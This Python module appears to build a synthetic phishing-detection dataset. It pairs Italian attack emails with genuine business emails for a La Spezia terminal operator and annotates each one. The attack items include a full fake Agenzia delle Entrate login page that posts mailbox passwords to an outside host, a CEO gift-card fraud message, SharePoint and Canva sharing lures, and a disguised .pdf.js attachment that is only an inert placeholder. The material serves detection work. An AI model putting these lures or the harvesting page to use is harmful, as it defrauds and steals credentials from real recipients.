"""Italian messages: attack/17-21, business/17-21."""
from .common import *  # noqa
from .de import _bulk_headers
from ..msg import DMARC

DMARC.update({'canva.com': 'reject', 'engage.canva.com': 'reject', 'agriturismo-valdimagra.it': 'none',
              'ediltecnica-sarzana.it': 'none', 'adspmarligureorientale.it': 'none', 'studiobellandi.it': None})
DMARC.pop('studiobellandi.it')

CHIARA = P('Chiara Colombo', 'c.colombo@ferretti-trasporti.it')
FT_AMM = P('Ferretti Trasporti S.p.A. - Amministrazione', 'amministrazione@ferretti-trasporti.it')
FT_TENANT = '6a1d3f85-2c7e-4b90-9e14-73b5d0c2a8f6'
ETI = ['Example Terminal Italia S.r.l.', 'Viale San Bartolomeo 412', '19126 La Spezia (SP)', 'P.IVA IT%s' % C.PIVA_IT]


@msg('attack', 17, 'it', 'sdi-notifica-scarto-allegato-html')
def a17(m):
    m.t = hamburg(2026, 10, 19, 8, 36, 14)
    m.frm = P('Sistema di Interscambio', 'sdi-notifiche@agriturismo-valdimagra.it')
    m.to = [S['it_acc']]
    m.subject = 'Notifica di scarto – fattura n. 2026/FE/0871 – IdentificativoSdI 21984657203'
    m.client = 'phpmailer'
    m.sys_kw['php_host'] = 'agriturismo-valdimagra.it'
    m.system = sy.exim_cpanel
    m.sys_kw['args'] = dict(server='host27.serverplan-cloud.it', server_ip='185.114.108.27',
                            user_domain='agriturismo-valdimagra.it', mode='php', php_user='valdimag',
                            script='/wp-includes/js/tinymce')
    post = 'https://fattureecorrispettivi-agenzia.web.app/sessione/verifica.php'
    page = ('<!DOCTYPE html>\n<html lang="it">\n<head>\n<meta charset="utf-8">\n<title>Fatture e Corrispettivi - '
            'Agenzia delle Entrate</title>\n<style>body{font-family:Titillium Web,Arial,sans-serif;background:#f2f2f2;'
            'margin:0}header{background:#0066cc;color:#fff;padding:14px 24px;font-size:18px}main{max-width:420px;'
            'margin:40px auto;background:#fff;padding:28px;border:1px solid #ddd}label{display:block;margin-top:12px;'
            'font-size:14px}input{width:100%;padding:8px;margin-top:4px}button{margin-top:18px;background:#0066cc;'
            'color:#fff;border:0;padding:10px 18px;font-size:15px}</style>\n</head>\n<body>\n<header>Agenzia delle '
            'Entrate &middot; Fatture e Corrispettivi</header>\n<main>\n<h2>Visualizza notifica di scarto</h2>\n'
            '<p>Per motivi di sicurezza la notifica relativa al file IT01432760112_0FA871.xml.p7m è consultabile solo '
            'dopo la verifica della casella di posta aziendale a cui è stata inviata.</p>\n'
            '<form method="post" action="' + post + '">\n<label>Indirizzo e-mail<input type="email" name="u" '
            'value="roberto.mancini@example.com"></label>\n<label>Password della casella<input type="password" '
            'name="p"></label>\n<button type="submit">Accedi e visualizza</button>\n</form>\n<p style="font-size:12px;'
            'color:#666">Codice errore 00404 – Identificativo SdI 21984657203</p>\n</main>\n</body>\n</html>\n')
    text = ('Gentile contribuente,\n\n'
            'il Sistema di Interscambio ha rilevato un errore nel file fattura inviato per conto di EXAMPLE TERMINAL '
            'ITALIA S.R.L. (P.IVA %s).\n\n'
            'Identificativo SdI: 21984657203\n'
            'Nome file: IT01432760112_0FA871.xml.p7m\n'
            'Esito: SCARTATO – codice 00404 (fattura duplicata)\n\n'
            'La fattura non si considera emessa. Per evitare sanzioni ai sensi dell\'art. 6 D.Lgs. 471/1997 è '
            'necessario consultare la notifica allegata e ritrasmettere il file entro 5 giorni.\n\n'
            'La notifica è disponibile nell\'allegato in formato HTML.\n\n'
            'Agenzia delle Entrate – Sistema di Interscambio\n'
            'Questo messaggio è generato automaticamente, si prega di non rispondere.' % C.PIVA_IT)
    m.body = mixed(text_leaf(text, 'plain', 'utf-8', 'quoted-printable'),
                   attachment(page.encode('utf-8'), 'text/html', 'Notifica_Scarto_21984657203.html', 'plain'))
    m.what = ('Fake SdI "notifica di scarto" for a duplicate e-invoice, with an HTML attachment that renders an '
              'Agenzia delle Entrate "Fatture e Corrispettivi" page asking for the mailbox password (form posts to a '
              'web.app host). Sent by PHPMailer on a hacked agriturismo website.')
    m.why = ('Credential phishing with an HTML attachment (no link in the body to scan), real SdI vocabulary and '
             'error code, sanction threat; SdI notifications never arrive as HTML login pages from third-party domains.')


@msg('attack', 18, 'it', 'sharepoint-condivisione-ferretti-compromesso')
def a18(m):
    m.t = hamburg(2026, 11, 4, 12, 18, 33)
    m.frm = P('Chiara Colombo', 'no-reply@sharepointonline.com')
    m.reply_to = CHIARA
    m.to = [S['it_acc']]
    m.subject = 'Chiara Colombo ha condiviso "Fatture ottobre 2026 - nuove coordinate" con te'
    m.client = 'custom'
    m.sys_kw['headers'] = _bulk_headers
    m.sys_kw['msgid'] = lambda mm: '<%s@odspnotify>' % ruuid(mm.rng)
    m365(m, 'eu', tenant_domain='sharepointonline.com', tenant_id='29d4b5a6-7f3c-4a1e-8d92-6b0c5e3f1a74',
         selector='selector2', auth_internal='full')
    m.client = 'custom'
    link = ('https://ferrettitrasporti-my.sharepoint.com/:o:/g/personal/c_colombo_ferretti-trasporti_it/'
            'EuK7tQ3xW2bNcP9sV4mA8dQBm1yZ5hR0jF6gL3kT8wX2pA?e=Vq7Mz4')
    paras = ['Chiara Colombo ha condiviso una cartella con te',
             'Buongiorno Roberto, come anticipato da Giulia ti condivido le fatture di ottobre e la comunicazione '
             'della nostra amministrazione sulle nuove coordinate bancarie. Mi confermi la ricezione? Grazie, Chiara',
             '**Fatture ottobre 2026 - nuove coordinate**',
             'Questo collegamento funziona solo per i destinatari diretti di questo messaggio.']
    footer = ('[[Informativa sulla privacy|https://go.microsoft.com/fwlink/?LinkId=521839]]\nMicrosoft Corporation, '
              'One Microsoft Way, Redmond, WA 98052')
    m.body = R.notice_alt('Chiara Colombo ha condiviso "Fatture ottobre 2026 - nuove coordinate" con te', paras,
                          ('Apri', link), 'SharePoint', '#03787c', footer, 'it', 'utf-8', 'quoted-printable',
                          link_style='angle', font='Segoe UI,Arial,sans-serif')
    m.what = ('Genuine SharePoint Online sharing notification triggered from the compromised Microsoft 365 account '
              'of the haulier\'s contact: the shared OneNote "Fatture ottobre 2026 - nuove coordinate" in her OneDrive '
              'contains a button to a fake Microsoft login.')
    m.why = ('Document-share lure from a hijacked partner account: infrastructure and links are real Microsoft, the '
             'tell is the content (invoices + "new bank coordinates" in a OneNote on a personal OneDrive) and that '
             'Ferretti sends invoices via SdI/XML (business/17), never via shared notebooks.')


@msg('attack', 19, 'it', 'ceo-gift-card-amazon-gmail')
def a19(m):
    m.t = hamburg(2026, 12, 11, 9, 51, 7)
    m.frm = P('Henrik Brandt', 'hbrandt.ceo.office@gmail.com')
    m.to = [S['it_om']]
    m.subject = 'Richiesta riservata'
    m.client = 'gmail'
    m.system = sy.gmail
    m.sys_kw['args'] = dict(zone='cet')
    text = ('Buongiorno Giulia,\n\n'
            'sei in ufficio stamattina? Ho bisogno che tu mi faccia un favore veloce e riservato.\n\n'
            'Sto entrando in una riunione con un cliente importante e non posso telefonare. Vorrei fare una sorpresa '
            'di Natale ad alcuni autisti e al personale del varco che ci hanno aiutato molto quest\'anno, ma non '
            'voglio che si sappia prima di venerdì.\n\n'
            'Potresti acquistare 10 buoni regalo Amazon da 100 € ciascuno (anche in tabaccheria o al supermercato '
            'vanno bene)? Poi gratta il retro, fai una foto leggibile dei codici e mandamela qui. Ti faccio '
            'rimborsare tutto da Katrin con la nota spese di dicembre.\n\n'
            'Rispondimi solo su questa email, il mio telefono è in modalità riunione.\n\n'
            'Grazie mille\nHenrik\n\n'
            'Inviato da iPhone')
    m.body = R.gmail_alt(text, 'it')
    m.what = ('Message in Italian from a Gmail address displaying the CEO\'s name to the La Spezia office manager, '
              'asking her to buy ten 100 € Amazon gift cards for a "Christmas surprise" and send photos of the codes.')
    m.why = ('Gift-card CEO fraud: free-mail sender with the CEO\'s display name, secrecy, unreachable by phone, '
             'untraceable payment method, reimbursement promised via expenses.')


@msg('attack', 20, 'it', 'sollecito-fattura-zip-js-aruba')
def a20(m):
    m.t = hamburg(2026, 11, 2, 7, 58, 42)
    m.frm = P('Ediltecnica Sarzana Srl - Amministrazione', 'amministrazione@ediltecnica-sarzana.it')
    m.to = [S['it_acc']]
    m.subject = 'Sollecito pagamento fattura n. 1184 del 30/09/2026'
    m.client = 'outlook_smtp'
    m.hdr_cs, m.hdr_enc = 'iso-8859-1', 'Q'
    m.system = sy.aruba
    m.sys_kw['args'] = dict(client_ip='5.188.206.73')
    inert = ('// Inert test placeholder. In the real campaign this file is an obfuscated JScript downloader\r\n'
             '// executed by Windows Script Host. No code is included here.\r\n').encode('ascii')
    z = arch.make_zip([('Fattura_n.1184_del_30-09-2026.pdf.js', inert)], dates.local('cet', m.t - TD(hours=1)))
    text = ('Buongiorno,\n\n'
            'dai nostri controlli risulta ancora insoluta la fattura in oggetto relativa ai lavori di ripristino '
            'della pavimentazione presso il piazzale container (area reefer), scaduta il 31/10/2026.\n\n'
            'Vi alleghiamo copia della fattura e dell\'estratto conto. Vi preghiamo di provvedere al saldo entro 3 '
            'giorni lavorativi o, in caso di pagamento già effettuato, di inviarci copia della contabile.\n\n'
            'Cordiali saluti\n\n'
            'Ufficio Amministrazione\nEdiltecnica Sarzana Srl\nVia Variante Aurelia 118 – 19038 Sarzana (SP)\n'
            'Tel. 0187 620 418')
    m.phones = ['0187 620 418']
    m.body = mixed(R.outlook_alt(text, 'it', 'iso-8859-1', 'quoted-printable', font='Calibri'),
                   attachment(z, 'application/x-zip-compressed', 'Fattura_1184_estratto_conto.zip', 'outlook',
                              when=m.t - TD(hours=1)))
    m.what = ('Payment reminder from the real, compromised mailbox of a local construction firm (Aruba SMTP, submitted '
              'from a foreign VPS) with a ZIP holding "Fattura_n.1184_del_30-09-2026.pdf.js" (inert placeholder).')
    m.why = ('Malware loader: script file disguised as a PDF invoice inside an archive, dunning pressure, plausible '
             'local supplier; genuine Italian invoices arrive as FatturaPA XML via SdI.')


@msg('attack', 21, 'it', 'atto-giudiziario-canva-link')
def a21(m):
    m.t = hamburg(2026, 11, 26, 16, 44, 3)
    m.frm = P('Canva', 'no-reply@canva.com')
    m.reply_to = P('Avv. Martina Greco', 'studiolegale.greco.avv@gmail.com')
    m.to = [S['it_om']]
    m.subject = 'Avv. Martina Greco ti ha inviato "Atto di citazione - Example Terminal Italia S.r.l."'
    m.client = 'custom'
    m.sys_kw['headers'] = _bulk_headers
    m.sys_kw['msgid'] = lambda mm: sy.ses_msgid(mm, 'us-east-1')
    m.sys_kw['bstyle'] = 'java'
    m.system = sy.ses
    m.sys_kw['args'] = dict(region='us-east-1', sign_domain='canva.com', sign_sel='ukcvn2h4w5d7a3fx6xq2ggj5sy6vfrz6',
                            mailfrom='bounce@mail.canva.com')
    link = ('https://www.canva.com/design/DAGx3kQ9mZp/9tX2vQ7yL1bN4cR8wK0sHg/view?utm_content=DAGx3kQ9mZp&'
            'utm_campaign=designshare&utm_medium=link2&utm_source=uniquelinks&utlId=h8f2k1m9q3')
    paras = ['**Avv. Martina Greco** ti ha invitato a visualizzare il design "Atto di citazione - Example Terminal '
             'Italia S.r.l.".',
             '"Si notifica atto di citazione avanti il Tribunale di La Spezia – R.G. 3187/2026 – per danni a merce '
             'in giacenza presso il Vs. terminal. Prima udienza fissata al 15/01/2027. Il fascicolo completo è '
             'consultabile al link sottostante."']
    footer = ('Ricevi questa email perché qualcuno ha condiviso un design con te su Canva.\nCanva Pty Ltd, 110 Kippax '
              'Street, Surry Hills NSW 2010, Australia')
    m.body = R.notice_alt('Hai ricevuto un design', paras, ('Apri design', link), 'Canva', '#7d2ae8', footer, 'it',
                          'utf-8', 'quoted-printable', link_style='url')
    m.what = ('Canva "design shared with you" notification (real Canva sender, SES, DKIM pass) used to deliver a '
              '"writ of summons before the Tribunale di La Spezia"; the design contains a button to a credential page.')
    m.why = ('Fake legal notice via an abused design platform: courts and lawyers serve writs by PEC/UNEP, never via '
             'Canva; Gmail reply-to, fear of litigation; the body contains only canva.com links.')


# ============================================================== business

@msg('business', 17, 'it', 'ferretti-fattura-elettronica-copia-cortesia')
def b17(m):
    m.t = hamburg(2026, 11, 5, 10, 11, 26)
    m.frm = FT_AMM
    m.to = [S['it_acc']]
    m.subject = 'Ferretti Trasporti S.p.A. - Copia di cortesia fattura n. FT/2026/2418 del 31/10/2026'
    m.client = 'outlook'
    m365(m, 'eu', tenant_domain='ferretti-trasporti.it', tenant_id=FT_TENANT)
    items = [('Trazioni container La Spezia - Interporto Santo Stefano Magra (ottobre 2026)\n38 viaggi come da '
              'distinta allegata', 38, 145.00),
             ('Trazioni container La Spezia - Parma (CIM)\n6 viaggi', 6, 520.00),
             ('Sosta e attesa al varco oltre franchigia', 9, 45.00)]
    pdf, gross = D.invoice_pdf(
        m, 'it', ['Ferretti Trasporti S.p.A.', 'Via Variante Aurelia 41', '19038 Sarzana (SP)',
                  'P.IVA IT%s' % C.FT_PIVA, 'amministrazione@ferretti-trasporti.it'],
        ETI, 'FT/2026/2418', '31/10/2026', 60, items, 22,
        ['Crédit Agricole Italia - Filiale di Sarzana', 'IBAN %s' % ids.fmt_iban(C.FT_IBAN), 'BIC CRPPIT2P'],
        order='Contratto quadro 2026', notes=['Documento privo di valenza fiscale ai sensi dell\'art. 21 DPR 633/72. '
                                              'L\'originale è disponibile nell\'area riservata Fatture e Corrispettivi.'],
        creator='TeamSystem', producer='TeamSystem Enterprise', title='Copia di cortesia FT/2026/2418',
        footer=['Ferretti Trasporti S.p.A. - Cap. soc. 1.500.000 i.v. - REA SP-98213 - P.IVA IT%s' % C.FT_PIVA])
    net = round(sum(q * p for _, q, p in items), 2)
    xml = ('<?xml version="1.0" encoding="UTF-8"?>\n<p:FatturaElettronica versione="FPR12" '
           'xmlns:p="http://ivaservizi.agenziaentrate.gov.it/docs/xsd/fatture/v1.2">\n  <FatturaElettronicaHeader>\n'
           '    <DatiTrasmissione><IdTrasmittente><IdPaese>IT</IdPaese><IdCodice>%s</IdCodice></IdTrasmittente>'
           '<ProgressivoInvio>0Xk2P</ProgressivoInvio><FormatoTrasmissione>FPR12</FormatoTrasmissione>'
           '<CodiceDestinatario>M5UXCR1</CodiceDestinatario></DatiTrasmissione>\n'
           '    <CedentePrestatore><DatiAnagrafici><IdFiscaleIVA><IdPaese>IT</IdPaese><IdCodice>%s</IdCodice>'
           '</IdFiscaleIVA><Anagrafica><Denominazione>Ferretti Trasporti S.p.A.</Denominazione></Anagrafica>'
           '</DatiAnagrafici></CedentePrestatore>\n'
           '    <CessionarioCommittente><DatiAnagrafici><IdFiscaleIVA><IdPaese>IT</IdPaese><IdCodice>%s</IdCodice>'
           '</IdFiscaleIVA><Anagrafica><Denominazione>Example Terminal Italia S.r.l.</Denominazione></Anagrafica>'
           '</DatiAnagrafici></CessionarioCommittente>\n  </FatturaElettronicaHeader>\n  <FatturaElettronicaBody>\n'
           '    <DatiGenerali><DatiGeneraliDocumento><TipoDocumento>TD01</TipoDocumento><Divisa>EUR</Divisa>'
           '<Data>2026-10-31</Data><Numero>FT/2026/2418</Numero><ImportoTotaleDocumento>%.2f</ImportoTotaleDocumento>'
           '</DatiGeneraliDocumento></DatiGenerali>\n    <DatiPagamento><CondizioniPagamento>TP02</CondizioniPagamento>'
           '<DettaglioPagamento><ModalitaPagamento>MP05</ModalitaPagamento><DataScadenzaPagamento>2026-12-31'
           '</DataScadenzaPagamento><ImportoPagamento>%.2f</ImportoPagamento><IBAN>%s</IBAN></DettaglioPagamento>'
           '</DatiPagamento>\n  </FatturaElettronicaBody>\n</p:FatturaElettronica>\n'
           % (C.FT_PIVA, C.FT_PIVA, C.PIVA_IT, gross, gross, C.FT_IBAN)).encode('utf-8')
    text = ('Spett.le Example Terminal Italia S.r.l.,\n\n'
            'in allegato la copia di cortesia della fattura n. FT/2026/2418 del 31/10/2026 (imponibile € %s, totale '
            '€ %s), trasmessa tramite SdI al Vs. codice destinatario M5UXCR1. Alleghiamo anche il file XML per '
            'comodità di registrazione.\n\n'
            'Pagamento: bonifico bancario a 60 gg d.f. sulle coordinate di sempre (Crédit Agricole Italia, IBAN '
            '%s).\n\n'
            'Cordiali saluti\n\nUfficio Amministrazione\nFerretti Trasporti S.p.A.\nVia Variante Aurelia 41 - 19038 '
            'Sarzana (SP)\nTel. +39 0187 692 340' % (D.money(net, 'it'), D.money(gross, 'it'), ids.fmt_iban(C.FT_IBAN)))
    m.phones = ['+39 0187 692 340']
    m.body = mixed(R.outlook_alt(text, 'it', 'iso-8859-1', 'quoted-printable', font='Calibri'),
                   attachment(xml, 'text/xml', 'IT%s_0Xk2P.xml' % C.FT_PIVA, 'outlook', when=m.t - TD(minutes=20)),
                   attachment(pdf, 'application/pdf', 'FT_2026_2418_copia_cortesia.pdf', 'outlook',
                              when=m.t - TD(minutes=20)))
    m.what = ('Courtesy copy of the road haulier\'s monthly invoice (FatturaPA FPR12 XML + PDF) from its administration '
              'mailbox on Microsoft 365; the fiscal original went through SdI.')
    m.why = ('Genuine: known sender and tenant, invoice already transmitted via SdI, amounts consistent across XML/PDF, '
             'the usual Crédit Agricole IBAN, no links.')
    m.pair = [(17, 'E-invoice / SdI notification',
               'A real FatturaPA XML and courtesy PDF from the supplier; the attack is a fake SdI rejection with an '
               'HTML login attachment.'),
              (20, 'Invoice attachment from an Italian supplier',
               'Genuine XML/PDF invoice vs. a "sollecito" with a ZIP containing a .pdf.js script.')]


@msg('business', 18, 'it', 'ferretti-programma-ritiri-xlsx-thread')
def b18(m):
    m.t = hamburg(2026, 10, 23, 17, 2, 44)
    m.frm = CHIARA
    m.to = [S['it_om']]
    m.cc = [P('Traffico Ferretti', 'traffico@ferretti-trasporti.it')]
    m.subject = 'R: Programma ritiri settimana 44 - slot varco'
    m.client = 'outlook'
    m365(m, 'eu', tenant_domain='ferretti-trasporti.it', tenant_id=FT_TENANT)
    m.thread_depth = 1
    prev = prev_id(m, 'exch')
    m.in_reply_to = prev
    m.references = [prev]
    q = Q(S['it_om'], [CHIARA], ago(m, hours=4, minutes=12), 'Programma ritiri settimana 44 - slot varco',
          'Ciao Chiara,\n\nper la settimana 44 il varco Stagnoni sarà chiuso martedì 27 dalle 6 alle 10 per lavori '
          'all\'impianto OCR. Potete spostare i ritiri di quella fascia su mercoledì? Mi mandi il programma '
          'aggiornato entro domani?\n\nGrazie\nGiulia', lang='it')
    when = dates.local('cet', m.t - TD(minutes=15))
    rows = [['Data', 'Fascia', 'Container', 'Tipo', 'Destinazione', 'Targa trattore', 'Autista']]
    plates = ['GF 418 KX', 'FZ 903 TR', 'GB 227 LM', 'GD 561 PA', 'FY 772 SN']
    drivers = ['Bianchi M.', 'Rossi A.', 'Esposito G.', 'Conti L.', 'Gallo F.']
    for i in range(12):
        rows.append(['%02d/10/2026' % (26 + i // 4) if 26 + i // 4 <= 31 else '', ['06-08', '08-10', '10-12', '14-16'][i % 4],
                     'MSKU %06d %d' % (m.rng.randrange(100000, 999999), m.rng.randrange(10)),
                     ['40HC', '20DV', '40RF'][i % 3], ['Santo Stefano Magra', 'Parma', 'Piacenza'][i % 3],
                     plates[i % 5], drivers[i % 5]])
    xlsx = arch.make_xlsx([('Settimana 44', rows)], 'Programma ritiri W44', 'Chiara Colombo', when)
    text = ('Ciao Giulia,\n\n'
            'nessun problema: abbiamo spostato i 4 ritiri di martedì mattina su mercoledì 28, fasce 06-08 e 08-10. '
            'In allegato il programma aggiornato con targhe e autisti per la prenotazione degli slot.\n\n'
            'Per il 40\' reefer per Parma ci serve la conferma della temperatura impostata (-18 °C?) prima del '
            'ritiro.\n\n'
            'Buon fine settimana\nChiara\n\n'
            'Chiara Colombo\nUfficio Traffico Container\nFerretti Trasporti S.p.A.\nVia Variante Aurelia 41 - 19038 '
            'Sarzana (SP)\nTel. +39 0187 692 351 | Cell. +39 347 118 2906')
    m.phones = ['+39 0187 692 351', '+39 347 118 2906']
    m.body = mixed(R.outlook_alt(text, 'it', 'windows-1252', 'quoted-printable', quotes=[q], font='Calibri'),
                   attachment(xlsx, 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
                              'Programma_ritiri_W44_aggiornato.xlsx', 'outlook', when=m.t - TD(minutes=15)))
    m.what = ('Reply from the haulier\'s traffic coordinator in an ongoing thread about gate slots, with the updated '
              'pick-up schedule (XLSX, container numbers, plates, drivers).')
    m.why = ('Genuine: answers the office manager\'s own question quoted below, operational content only, plain XLSX '
             'attachment, sent from the haulier\'s Microsoft 365 tenant.')
    m.pair = [(18, 'Documents from Ferretti Trasporti',
               'A normal reply with an operational XLSX; the attack, from the same (then compromised) account, is a '
               'SharePoint OneNote share about invoices and new bank details.')]


@msg('business', 19, 'it', 'buoni-regalo-natale-welfare-interno')
def b19(m):
    m.t = hamburg(2026, 12, 2, 11, 30, 12)
    m.frm = S['it_om']
    m.to = [S['it_acc']]
    m.cc = [P('Ufficio La Spezia', 'laspezia.tutti@example.com')]
    m.subject = 'Buoni regalo di Natale 2026 – caricamento sulla piattaforma welfare'
    m.rcpt = S['it_acc'].email
    m.client = 'outlook_onprem'
    m.hdr_cs, m.hdr_enc = 'iso-8859-1', 'Q'
    m.system = sy.exchange_internal
    m.sys_kw['args'] = dict(mbx='EXCH02', hub='EXCH01', client_ip='10.31.2.41')
    text = ('Ciao a tutti,\n\n'
            'come ogni anno la direzione ha deciso di riconoscere a tutto il personale di La Spezia un buono regalo '
            'di Natale del valore di 250 €.\n\n'
            'Quest\'anno il buono verrà caricato automaticamente entro il 15 dicembre sul vostro conto welfare '
            'Edenred (lo stesso dei buoni pasto). Non dovete fare nulla: riceverete una notifica dalla piattaforma e '
            'potrete scegliere tra buoni Amazon, carburante o spesa direttamente nell\'area personale.\n\n'
            'Vi ricordo che nessuno – né io, né la direzione in Germania – vi chiederà mai di acquistare buoni regalo '
            'o di inviare codici via e-mail o WhatsApp. Se ricevete richieste del genere, anche a nome di Henrik o di '
            'altri dirigenti, inoltratele subito a it-security@example.com e non rispondete.\n\n'
            'Per domande sono a disposizione in ufficio o al 412.\n\n'
            'Un saluto\nGiulia\n\n'
            'Giulia Ferraro\nOffice Manager\nExample Terminal Italia S.r.l.\nViale San Bartolomeo 412 – 19126 La Spezia\n'
            'Tel. +39 0187 563 412')
    m.phones = ['+39 0187 563 412']
    m.body = R.outlook_alt(text, 'it', 'iso-8859-1', 'quoted-printable', font='Calibri')
    m.what = ('Internal announcement from the La Spezia office manager: the yearly 250 € Christmas voucher is credited '
              'automatically on the staff welfare platform; warns never to buy gift cards on e-mail requests.')
    m.why = ('Genuine: internal Exchange path via mail-int01, nobody is asked to buy or send codes, voucher delivered '
             'by the existing HR welfare platform, explicit anti-fraud reminder.')
    m.pair = [(19, 'Gift cards / Christmas vouchers',
               'Internal notice: vouchers are credited by the welfare platform; the attack asks the office manager to '
               'buy gift cards and send photos of the codes to a Gmail "CEO".')]


@msg('business', 20, 'it', 'commercialista-f24-scadenza-dicembre-aruba')
def b20(m):
    m.t = hamburg(2026, 12, 9, 18, 6, 50)
    m.frm = P('Studio Bellandi', 'p.bellandi@studiobellandi.it')
    m.to = [S['it_acc']]
    m.subject = 'Example Terminal Italia - F24 in scadenza 16/12/2026 (IVA novembre, ritenute, acconto IVA)'
    m.client = 'outlook_smtp'
    m.hdr_cs, m.hdr_enc = 'iso-8859-1', 'Q'
    m.system = sy.aruba
    m.sys_kw['args'] = dict(client_ip='151.38.72.190')
    pdf = D.letter_pdf(
        m, ['Studio Bellandi', 'Commercialisti Associati', 'Via Chiodo 58', '19121 La Spezia',
            'P.IVA IT%s' % C.SB_PIVA],
        ETI, 'La Spezia, 9 dicembre 2026', 'Prospetto versamenti F24 con scadenza 16/12/2026',
        ['Codice tributo 6011 - IVA mese di novembre 2026: € 41.286,30',
         'Codice tributo 1001 - Ritenute su redditi di lavoro dipendente (novembre): € 58.412,77',
         'Codice tributo 1040 - Ritenute su redditi di lavoro autonomo (novembre): € 1.940,00',
         'Codice tributo 6013 - Acconto IVA 2026 (metodo storico): € 37.905,12',
         'Totale delega: € 139.544,19',
         'La delega verrà trasmessa da questo Studio tramite Entratel con addebito sul Vs. conto corrente presso '
         'Banca Monte dei Paschi di Siena (mandato di addebito in essere). Non è necessario alcun bonifico da parte '
         'Vostra.'],
        closing=['Cordiali saluti', 'dott. Paolo Bellandi'], creator='Microsoft® Word 2021',
        producer='Microsoft® Word 2021')
    text = ('Buonasera Roberto,\n\n'
            'in allegato il prospetto dei versamenti con scadenza mercoledì 16 dicembre. Come sempre la delega F24 '
            'sarà trasmessa da noi via Entratel con addebito diretto sul vostro conto MPS; vi chiedo solo di '
            'verificare la copertura entro il 15.\n\n'
            'L\'acconto IVA è calcolato con il metodo storico (88%% del versato per dicembre 2025). Se preferite il '
            'metodo previsionale fatemelo sapere entro venerdì.\n\n'
            'Cordiali saluti\n\n'
            'dott. Paolo Bellandi\nStudio Bellandi - Commercialisti Associati\nVia Chiodo 58 - 19121 La Spezia\n'
            'Tel. 0187 735 210 - P.IVA %s' % C.SB_PIVA)
    m.phones = ['0187 735 210']
    m.body = mixed(R.outlook_alt(text, 'it', 'iso-8859-1', 'quoted-printable', font='Arial'),
                   attachment(pdf, 'application/pdf', 'Prospetto_F24_16-12-2026.pdf', 'outlook', when=m.t - TD(hours=1)))
    m.what = ('The Italian tax adviser sends the F24 schedule for 16 December (VAT, withholdings, VAT advance) as a PDF; '
              'payment runs by direct debit through Entratel.')
    m.why = ('Genuine: known adviser on Aruba mail, expected monthly deadline, no bank details to change and no bank '
             'transfer requested, no links.')
    m.pair = [(17, 'Italian tax matters',
               'The adviser\'s F24 schedule contains no links and no login; the attack imitates the tax agency and asks '
               'for the mailbox password.')]


@msg('business', 21, 'it', 'adsp-ordinanza-varco-stagnoni')
def b21(m):
    m.t = hamburg(2026, 11, 27, 12, 47, 31)
    m.frm = P('AdSP Mar Ligure Orientale - Ufficio Security', 'security@adspmarligureorientale.it')
    m.to = [S['it_om']]
    m.subject = 'Ordinanza n. 41/2026 - Disciplina transitoria accessi varco Stagnoni (dal 01/12/2026)'
    m.client = 'thunderbird'
    m.x_mailer = 'Mozilla Thunderbird'
    m.system = sy.platform
    m.sys_kw['args'] = dict(
        helo='smtp-out.adspmarligureorientale.it', ip='192.0.2.87',
        dkims=[('adspmarligureorientale.it', 'adsp1', 'From:To:Subject:Date:Message-ID')],
        trace=[('Received', 'from [10.12.4.58] (unknown [10.12.4.58])\n\t(Authenticated sender: security@adspmarligureorientale.it)'
                            '\n\tby smtp-out.adspmarligureorientale.it (Postfix) with ESMTPSA id {qid};\n\t{date}')],
        date_zone='cet')
    pdf = D.letter_pdf(
        m, ['Autorità di Sistema Portuale', 'del Mar Ligure Orientale', 'Via del Molo 1', '19126 La Spezia'],
        ['Ai terminalisti del porto della Spezia', 'Alle imprese di autotrasporto', 'LORO SEDI'],
        'La Spezia, 27/11/2026', 'Ordinanza n. 41/2026 – Disciplina transitoria degli accessi al varco Stagnoni',
        ['IL PRESIDENTE',
         'VISTA la legge 28 gennaio 1994, n. 84 e successive modifiche;',
         'CONSIDERATI i lavori di sostituzione dei portali OCR e del sistema di controllo accessi al varco Stagnoni;',
         'ORDINA',
         'Art. 1 – Dal 01/12/2026 al 18/12/2026 l\'accesso dei mezzi pesanti al varco Stagnoni è consentito dalle ore '
         '06:00 alle ore 22:00 esclusivamente su corsia 2 e 3. La corsia 1 resta chiusa.',
         'Art. 2 – I terminalisti comunicano ai vettori la prenotazione degli slot con anticipo di almeno 24 ore.',
         'Art. 3 – I contravventori sono puniti ai sensi degli artt. 1161 e 1174 del Codice della Navigazione.'],
        closing=['Il Presidente'], creator='Writer', producer='LibreOffice 7.5', size=9)
    text = ('Buongiorno,\n\n'
            'si trasmette in allegato l\'Ordinanza n. 41/2026 relativa alla disciplina transitoria degli accessi al '
            'varco Stagnoni durante i lavori di sostituzione dei portali OCR (01-18 dicembre 2026).\n\n'
            'Si prega di darne la massima diffusione presso i vettori che operano con il Vostro terminal.\n\n'
            'L\'ordinanza è pubblicata anche nella sezione Amministrazione Trasparente del sito istituzionale.\n\n'
            'Cordiali saluti\n\nUfficio Security e Safety portuale\nAutorità di Sistema Portuale del Mar Ligure '
            'Orientale\nTel. +39 0187 546 320')
    m.phones = ['+39 0187 546 320']
    m.body = mixed(R.tb_plain(text, 'it'),
                   attachment(pdf, 'application/pdf', 'Ordinanza_41_2026_varco_Stagnoni.pdf', 'thunderbird'))
    m.what = ('Port authority transmits an ordinance on gate access restrictions during OCR portal works, PDF attached, '
              'from its own mail server (Thunderbird).')
    m.why = ('Genuine: expected type of authority circular to terminal operators, informational only, no links, no '
             'payment or login, consistent with the gate closure discussed with the haulier (business/18).')
    m.pair = [(21, 'Notice from an authority / legal body',
               'A real authority circular as a plain PDF; the attack is a "writ of summons" delivered through a Canva '
               'design link.')]
